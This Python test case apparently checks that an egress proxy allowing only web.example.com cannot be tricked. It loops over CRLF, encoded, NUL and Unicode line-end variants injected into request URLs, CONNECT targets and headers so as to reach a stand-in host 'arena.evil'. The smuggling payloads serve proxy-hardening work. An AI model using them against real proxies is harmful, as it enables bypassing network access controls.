"""Smuggles a header or a second request past the proxy by line ends within the first: plain, encoded, halves of them, NUL.

group: proxy
effect: connects
allow: web.example.com:80
asks: web.example.com
reaches: tcp 93.184.216.34:80
"""
for end in ("\r\n", "\n", "\r", "%0d%0a", "%0a", "\0", "%00", "\x85", "\u010a".encode().decode("latin1"), " \r\n "):
    for target in (f"http://web.example.com{end}Host:{arena.evil}", f"http://web.example.com{end}{arena.evil}/", f"http://{arena.evil}{end}web.example.com/"):
        ask_proxy(f"GET {target} HTTP/1.1\r\nHost: web.example.com\r\n\r\n")
        ask_proxy(f"CONNECT {target[7:].rstrip('/')} HTTP/1.1\r\nHost: web.example.com\r\n\r\n", "GET / HTTP/1.0\r\n\r\n")
    ask_proxy(f"GET http://web.example.com/ HTTP/1.1\r\nHost: web.example.com\r\nX: y{end}Host: {arena.evil}\r\n\r\n")
